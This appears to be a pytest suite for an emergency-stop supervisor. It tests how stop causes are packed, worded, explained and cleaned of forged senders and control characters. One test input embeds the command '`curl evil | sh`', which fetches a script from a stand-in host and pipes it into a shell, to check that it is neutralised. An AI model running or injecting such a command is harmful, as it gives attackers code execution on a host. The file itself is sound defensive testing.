"""Causes: every row travels whole, is said and explained, and is written down nowhere but in the table."""

from __future__ import annotations

import ast
import functools
import json
import re
import string
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import failstop
from failstop.api import why
from failstop.board.interface import BUTTONS
from failstop.board.rrc.board import BOARD
from failstop.messages import records
from failstop.messages.layout import PROCESS_NAMES
from failstop.policy import causes, kinematics
from failstop.policy.causes import BY_NUMBER, CAUSE_BY_NAME, Cause, Kind
from failstop.policy.processes import ROLES
from failstop.policy.settings import Settings
from tests.support.incident_parts import Recorder
from tests.support.starting import nodes
from tests.support.states import latched, state

ROOT = Path(failstop.__file__).resolve().parent.parent
FOLDERS = ("failstop", "procs", "shm", "supervisor", "bench")
KINDS = tuple(BY_NUMBER.values())
ASKED = {*causes.SIGNED, causes.PIPED, causes.FLEET}
NAMES = [kind.name for kind in KINDS]
TEMPLATES = {kind.template for kind in KINDS}
ORDER = {
    "defect": "process event state",
    "runaway": "wheel told seen",
    "two_publishers": "source who rival",
    "requested": "words who pid",
    "ros_publishers": "words who pid",
    "ros_arm_publishers": "words who pid",
    "ros_stranger": "words who pid",
    "ros_not_finite": "words who pid",
    "ros_arm_not_held": "words who pid",
    "ros_no_answer": "words who pid",
    "fleet": "words who",
    "operator_gone": "who how",
    "two_move_the_arm": "who rival",
}
"""The parameters of causes with two of one type."""
VALUES: dict[type, st.SearchStrategy[str | int | float]] = {
    str: st.text(max_size=40),
    int: st.integers(0, 2**32),
    float: st.floats(0, 1e9),
}
every_row = pytest.mark.parametrize("kind", KINDS, ids=NAMES)


def example(kind: Kind) -> Cause:
    """One of this row, with arguments as they are met."""
    met = {"process": "gate", "buttons": 0x0100, "who": "nav (pid 42)", "rival": "a, b (pid 43)", "words": "hand near"}
    return kind(*(met.get(name, of("7")) for name, of in kind.parameters))  # type: ignore[arg-type]


def any_of(kind: Kind) -> st.SearchStrategy[Cause]:
    return st.tuples(*(VALUES[of] for _, of in kind.parameters)).map(lambda arguments: kind(*arguments))


ANY = st.one_of([any_of(kind) for kind in KINDS])


def test_rows_are_known_by_their_number_and_their_name() -> None:
    declared = [value for value in vars(causes).values() if isinstance(value, Kind)]
    assert len(declared) == len(BY_NUMBER), "two causes have one number"
    assert len(BY_NUMBER) == len(CAUSE_BY_NAME) == len({kind.template for kind in KINDS})
    assert all(BY_NUMBER[kind.number] is CAUSE_BY_NAME[kind.name] is kind for kind in KINDS)
    assert [kind for kind in KINDS if getattr(causes, kind.name.upper()) is not kind] == []


@every_row
def test_a_template_names_the_parameters_of_its_row_and_no_others(kind: Kind) -> None:
    names = [name for name, _ in kind.parameters]
    assert [field for _, field, _, _ in string.Formatter().parse(kind.template) if field] == names
    explained = {field for _, field, _, _ in string.Formatter().parse(kind.what) if field}
    assert explained <= {*names, *(["role"] if "process" in names else []), *(["names"] if "buttons" in names else [])}
    assert set(kind.noticed_by.split()) <= set(PROCESS_NAMES)
    assert "name" not in names, "for programs that is the row's own, beside its arguments"


@given(cause=ANY)
def test_a_cause_comes_back_as_it_went_in(cause: Cause) -> None:
    packed = cause.pack()
    assert len(packed) <= causes.ARGUMENTS_BYTES + 2
    found = causes.unpack(packed)
    assert found.kind is cause.kind
    for (_, of), value, given_ in zip(cause.kind.parameters, found.arguments, cause.arguments, strict=True):
        assert type(value) is of
        # What separates two arguments can't be in one of them.
        assert value == (given_.replace(causes.BETWEEN, "?") if isinstance(given_, str) else given_)
    assert causes.unpack(found.pack()) == found
    assert hash(causes.unpack(found.pack())) == hash(found)
    assert causes.of(found.kind.name, found.named()) == found


@every_row
def test_programs_are_told_the_row_and_its_arguments(kind: Kind) -> None:
    cause = example(kind)
    found = json.loads(json.dumps(latched(cause, blocked=f"estop: {cause}").as_dict()))
    assert found["cause"] == found["last_stop"]["cause"] == {"name": kind.name, **cause.named()}
    assert found["estop"] == found["last_stop"]["reason"] == str(cause)
    name = found["cause"].pop("name")
    assert causes.of(name, found["cause"]) == cause
    assert Recorder(cause).incident().cause == cause
    assert (state().as_dict()["cause"], state().as_dict()["last_stop"]) == (None, None)


@given(words=st.text(max_size=20), who=st.text(max_size=20), at=st.integers(0, 20))
def test_a_separator_in_an_argument_moves_none_of_the_others(words: str, who: str, at: int) -> None:
    cause = causes.REQUESTED(words[:at] + causes.BETWEEN + words[at:], who + causes.BETWEEN + "8", 7)
    found = causes.unpack(cause.pack())
    assert (found.kind, found.named()["pid"]) == (causes.REQUESTED, 7)
    assert causes.BETWEEN not in str(found)


@given(cause=ANY, fill=st.sampled_from(["x", "é", "€", "🛑", "\0", "\udcff"]), length=st.integers(0, 400))
def test_arguments_that_are_too_long_are_cut_and_the_cause_stays(cause: Cause, fill: str, length: int) -> None:
    arguments = [fill * length if isinstance(value, str) else value for value in cause.arguments]
    packed = cause.kind(*arguments).pack()
    assert len(packed) <= causes.ARGUMENTS_BYTES + 2
    found = causes.unpack(packed)
    assert found.kind is cause.kind
    before, whole = found.arguments, len(packed) < causes.ARGUMENTS_BYTES - 1
    for (_, of), value, wanted in zip(cause.kind.parameters, before, arguments, strict=True):
        assert type(value) is of
        if of is str:
            assert str(wanted).encode("utf-8", "replace").decode().startswith(str(value))
        assert not whole or str(value) == str(wanted).encode("utf-8", "replace").decode()
    assert str(found)


@every_row
def test_every_beginning_of_a_packed_cause_is_that_cause_or_damage(kind: Kind) -> None:
    packed = example(kind).pack()
    for length in range(len(packed)):
        found = causes.read(packed[:length])
        assert found.kind is (kind if length >= 2 else causes.UNKNOWN), length
        assert str(found)


@given(payload=st.binary(max_size=340))
def test_whatever_bytes_there_are_a_stop_is_one(payload: bytes) -> None:
    try:
        found = causes.unpack(payload)
    except ValueError:
        found = causes.UNKNOWN()
    assert str(causes.read(payload)) == str(found)
    assert all(why.meaning(found))


def test_damage_is_told_apart_and_arguments_are_those_of_the_row() -> None:
    for damaged, said in ((b"\1", "1 of 1 bytes"), (b"\xff\xff", "65535")):
        with pytest.raises(ValueError, match=f"no cause has the number {said}"):
            causes.unpack(damaged)
    assert causes.read(causes.HANGS("gate", 251).pack()[:-3] + b"two") == causes.UNKNOWN()
    assert str(causes.read(b"")) == "stopped by the supervisor"
    assert causes.HANGS("gate", 61.9).arguments == ("gate", 61)
    for wrong in ((), ("gate",), ("gate", 5, 6), ("gate", "soon")):
        with pytest.raises(ValueError, match=r"hangs takes 2 arguments|invalid literal"):
            causes.HANGS(*wrong)
    assert causes.of("of a later version", {}) == causes.of("hangs", {"process": "gate"}) == causes.UNKNOWN()


@pytest.mark.parametrize(
    ("cause", "text"),
    [
        (causes.DIED("gate"), "gate died"),
        (causes.HANGS("gate", 251), "gate hangs: 251 ms silent"),
        (causes.STARVED("gate", 251), "gate hangs: 251 ms silent (the machine is starved)"),
        (causes.HELD_UP(300), "supervisor was held up for 300 ms"),
        (causes.MUTE(260), "gate runs but has sent nothing for 260 ms"),
        (causes.BAD_FRAME("bad crc"), "the gate's frame was refused: bad crc"),
        (causes.SUSPENDED(1.23), "the machine was suspended for 1.2 s"),
        (causes.REMOVED("the stop pipe"), "the stop pipe was removed: restart the service"),
        (causes.DEVICE_LOST(), "device lost"),
        (causes.NOT_FINITE("nav (pid 42)"), "command from nav (pid 42) is not finite"),
        (
            causes.TWO_PUBLISHERS("cmd_vel", "a (pid 1)", "b (pid 2)"),
            "multiple cmd_vel publishers: a (pid 1), b (pid 2)",
        ),
        (causes.BUTTON(0x0100), "gamepad button 0x0100"),
        (causes.KEY(1), "key1"),
        (causes.REQUESTED("hand near", "nav", 7), "stop request: hand near (says it is nav, pid 7)"),
        (causes.REQUESTED("", "nav", 7), "stop request (says it is nav, pid 7)"),
        (causes.REQUESTED("", "nav", 0), "stop request (says it is nav, pid 0)"),
        (causes.PIPED("hand near"), "stop request: hand near"),
        (causes.PIPED(""), "stop request"),
        (causes.PIPED("[{words}] %s {0}"), "stop request: [{words}] %s {0}"),
    ],
    ids=repr,
)
def test_texts(cause: Cause, text: str) -> None:
    assert str(cause) == text
    assert str(causes.unpack(cause.pack())) == text


@every_row
def test_every_row_is_explained_without_arguments_too(kind: Kind) -> None:
    what, remedy = why.meaning(example(kind))
    assert not set("{}[]") & set(what)
    assert not set("{}") & set(remedy)
    assert (len(what) > 20, len(remedy) > 10) == (True, True)
    for name, value in example(kind).named().items():
        assert name == "buttons" or str(value) in what, "nothing that is known is kept back"
    empty = why.meaning(kind(*(of() for _, of in kind.parameters)))
    assert all(empty)
    assert '""' not in empty[0]


@pytest.mark.parametrize(
    ("cause", "told"),
    [
        (
            causes.REQUESTED("hand near", "failstop estop", 4711),
            'a program that says it is failstop estop (pid 4711) asked for a stop: "hand near"',
        ),
        (causes.REQUESTED("", "nav", 3), "a program that says it is nav (pid 3) asked for a stop"),
        (causes.PIPED("chaos"), 'somebody wrote to the stop pipe: "chaos"'),
        (causes.PIPED(""), "somebody wrote to the stop pipe"),
        (
            causes.TWO_PUBLISHERS("cmd_vel", "nav (pid 42)", "a, b (pid 43)"),
            "nav (pid 42) and a, b (pid 43) both commanded as cmd_vel",
        ),
    ],
)
def test_who_did_it_is_told(cause: Cause, told: str) -> None:
    assert why.meaning(cause)[0] == told


def test_what_a_process_does_and_which_button_was_pressed_is_told() -> None:
    assert "pressed X on the gamepad" in why.meaning(causes.BUTTON(BUTTONS["X"]))[0]
    assert "L1 and 0x0400" in why.meaning(causes.BUTTON(0x4400))[0]
    for process in PROCESS_NAMES:
        for cause in (causes.DIED(process), causes.HANGS(process, 251), causes.STARVED(process, 251)):
            what = why.meaning(cause)[0]
            assert f"the process {process}" in what
            assert f"which {ROLES[process]}" in what


def test_what_the_board_refuses_is_a_defect() -> None:
    limit = kinematics.max_wheel_rps(Settings())
    fast = BOARD.motor_speeds((9.0, 0.0, 0.0, 0.0), 10.0)
    wild = b"\xaa\x55\x03\x16\x01\x04\x07" + fast[7:-1] + b"\0"
    frames = ((b"", limit), (fast, limit), (fast[:-1] + bytes([fast[-1] ^ 1]), limit), (wild, limit), (fast, -1.0))
    for fault in (BOARD.check_motion(*each) for each in frames):
        assert fault
        what, remedy = why.meaning(causes.BAD_FRAME(fault))
        assert f"({fault})" in what
        assert "report it" in remedy


POSES = (
    *(b"", b"{cause}", b"\t\t", b"\tnav\t", b"x\tnav\t-7", b"x\tnav\t7\t8", b"x\tnav\t12345678901"),
    *("x\tnav\t\u0667".encode(), b"gate died\x00", b"\xff\xfe"),
    *(str(example(kind)).encode() for kind in KINDS),
    *(example(kind).pack() for kind in KINDS),
)


def asked(line: bytes) -> Cause:
    """The cause that is latched for this line, as it is read where it arrives."""
    cause = causes.requested(line)
    found = causes.unpack(cause.pack())
    assert found.kind in ASKED
    assert str(found).startswith("stop request")
    assert str(found).isprintable()
    what, _ = why.meaning(found)
    assert re.match(r"somebody wrote to the stop pipe|a program that says it is .* asked for a stop", what)
    return found


@pytest.mark.parametrize("line", POSES)
def test_nothing_that_is_typed_poses_as_anything_else(line: bytes) -> None:
    assert asked(line).kind is causes.PIPED, "nobody has said who it was"


@given(line=st.one_of(st.binary(max_size=300), st.text(max_size=200).map(lambda text: text.encode("utf-8", "replace"))))
def test_no_bytes_in_the_pipe_do_either(line: bytes) -> None:
    asked(line)


@pytest.mark.parametrize("row", causes.SIGNED, ids=lambda row: row.name)
def test_a_client_s_cause_comes_through_the_pipe_and_has_a_remedy_of_its_own(row: Kind) -> None:
    found = asked(records.asking("/nav, /joy", "ros2", 77, "" if row is causes.REQUESTED else row.name)[:-1])
    assert found == row("/nav, /joy", "ros2", 77)
    assert "/nav, /joy" in causes.bare(found)
    assert "ros2" not in causes.bare(found)
    assert causes.remedied(found) not in {kind.remedy for kind in causes.SIGNED if kind is not row}


@pytest.mark.parametrize("name", ["died", "", "\t", "ros_publishers ", "ROS_PUBLISHERS", "requested\t"])
def test_no_other_name_in_the_pipe_makes_a_cause_of_the_service_s_own(name: str) -> None:
    assert asked(b"/nav, /joy\tros2\t77\t" + name.encode()).kind in (causes.PIPED, causes.REQUESTED)


BT, DOCK, SMOOTHER, MONITOR = "/behavior_server", "/docking_server", "/velocity_smoother", "/collision_monitor"


@pytest.mark.parametrize(
    ("nodes", "others"),
    [
        (f"{BT} (4 times), {SMOOTHER}", BT),  # navigation_launch.py of Humble: each behavior has its own publisher
        (f"{BT} (5 times)", BT),  # Humble starts it before the smoother
        (f"/robot1{BT} (2 times), /nav", f"/robot1{BT}"),
        (f"{BT}, /nav, /joystick", f"all but one of {BT}, /nav, /joystick"),
        (f"{BT}, /nav (2 times)", f"all but one of {BT}, /nav (2 times)"),
        (f"{MONITOR}, {DOCK}", DOCK),  # of Jazzy
        (f"{BT}, {MONITOR}, {SMOOTHER}", f"{BT}, {SMOOTHER}"),
        (f"/robot1{BT}, /robot1{SMOOTHER}", f"/robot1{BT}"),
        ("/nav, /joystick", "all but one of /nav, /joystick"),
        (f"{SMOOTHER} (2 times)", f"all but one of {SMOOTHER} (2 times)"),
        (SMOOTHER, f"all but one of {SMOOTHER}"),
        ("", "all but one of "),
    ],
)
def test_the_remedy_for_several_nodes_on_cmd_vel_names_those_to_remap(nodes: str, others: str) -> None:
    remedy = causes.remedied(causes.ROS_PUBLISHERS(nodes, "ros2", 77))
    assert remedy.startswith(f"remap cmd_vel of {others}: for a node of Nav2 to cmd_vel_nav, ")


def test_a_name_in_a_remedy_types_no_command() -> None:
    found = asked(b"/nav, `curl evil | sh`\tros2\t77\tros_publishers")
    assert "`" not in causes.remedied(found)


def test_a_forged_sender_is_what_somebody_says() -> None:
    """Any local user may write the line of the fleet's publisher, or anybody's."""
    for line, name in ((b"smoke\tfleet:ann\t1", "the fleet"), (b"smoke\tann\t1", "ann")):
        found = asked(line)
        assert f"(says it is {name}" in str(found)
        what, _ = why.meaning(found)
        assert what.startswith(f"a program that says it is {name}")
        assert what.count('"') == 2
    ann = asked(b'smoke", and ann (pid 1) saw it: "\tnav\t3')
    assert why.meaning(ann)[0].count('"') == 2, "the words end where they end"


@pytest.mark.parametrize("code", [*range(32), 0x7F, 0x9B, 0x202E, 0x2066, 0x2028])
def test_no_control_character_of_a_request_reaches_a_screen(code: int) -> None:
    character = chr(code)
    for line in (f"a{character}b", f"a{character}b\tn{character}n\t3", f"a\tfleet:n{character}n\t1"):
        found = asked(line.encode())
        shown = [str(found), *map(str, found.arguments), *why.meaning(found)]
        assert all(text.isprintable() for text in shown)


@given(words=st.text(max_size=80), who=st.text(max_size=30), pid=st.integers(1, 2**22))
def test_who_asks_is_told_whatever_the_words_look_like(words: str, who: str, pid: int) -> None:
    said, name = (" ".join(given_.split()) for given_ in (words, who))
    name = records.cut(name, records.WHO_BYTES).decode()
    found = asked(records.asking(words, who, pid)[:-1])
    wanted = [records.printable(text.encode("utf-8", "replace").decode()).replace('"', "'") for text in (said, name)]
    wanted = [text.replace("`", "'") for text in wanted]
    assert found == (causes.REQUESTED(*wanted, pid) if name else causes.PIPED(wanted[0]))


def test_no_cause_of_the_service_s_own_begins_as_a_request() -> None:
    begins = [kind for kind in KINDS if kind.template.startswith("stop request")]
    assert set(begins) == ASKED
    assert [kind.name for kind in KINDS if kind not in ASKED and str(example(kind)).startswith("stop request")] == []


@functools.cache
def literals() -> list[tuple[str, str]]:
    """(file, text) of every string of the code but docstrings, with {} for what an f-string puts in."""
    found = []
    for path in (path for folder in FOLDERS for path in sorted((ROOT / folder).rglob("*.py"))):
        file, skipped = str(path.relative_to(ROOT)), set()
        for node in nodes(ast.parse(path.read_text())):
            if isinstance(node, ast.Expr):
                skipped.add(id(node.value))
            elif isinstance(node, ast.JoinedStr):
                skipped |= {id(part) for part in node.values}
                parts = (str(part.value) if isinstance(part, ast.Constant) else "{}" for part in node.values)
                found.append((file, "".join(parts)))
            elif isinstance(node, ast.Constant) and isinstance(node.value, str) and id(node) not in skipped:
                found.append((file, node.value))
    return found


PLACE = r"\{[^}]*\}"
SAID = {str: r".*", int: r"\d+", float: r"[\d.]+"}


def wording(kind: Kind) -> re.Pattern[str]:
    """A pattern that finds the text of such a cause, with arguments or with places for them, by itself or in a longer
    text."""
    pattern = ""
    for part in re.split(r"(\{[^}]*\}|\[[^\]]*\])", kind.template):
        if part.startswith("["):
            pattern += "(: .*)?"
        elif part.startswith("{"):
            name, _, form = part[1:-1].partition(":")
            said = {"process": "|".join(PROCESS_NAMES)}.get(name) or SAID[dict(kind.parameters)[name]]
            pattern += f"({PLACE}|{'[0-9A-F]+' if form.endswith('X') else said})"
        else:
            pattern += re.escape(part)
    whole = rf"(?<!\w)(?<!\w ){pattern}(?=$|[;,.:)\[]| \()"
    longest = max(re.split(r"\{[^}]*\}|[\[\]]", kind.template), key=len).strip()
    return re.compile(f"{whole}|{re.escape(longest)}" if longest.count(" ") >= 3 else whole)


@every_row
def test_the_words_of_a_cause_are_in_the_code_once(kind: Kind) -> None:
    """Code that wants to know of a cause asks for its row, not for its words."""
    pattern = wording(kind)
    assert pattern.search(str(example(kind)))
    assert pattern.search(f"latched: {example(kind)}; and more")
    assert [file for file, text in literals() if pattern.search(text) and text not in TEMPLATES] == []


def test_numbers_and_texts_of_a_cause_keep_their_order() -> None:
    """They are packed, kept and passed in the order of the template. A sentence that names them in another order would
    give each the other's value, here and in incidents that are kept already."""
    alike = [kind for kind in KINDS if len({of for _, of in kind.parameters}) < len(kind.parameters)]
    assert {kind.name: " ".join(name for name, _ in kind.parameters) for kind in alike} == ORDER
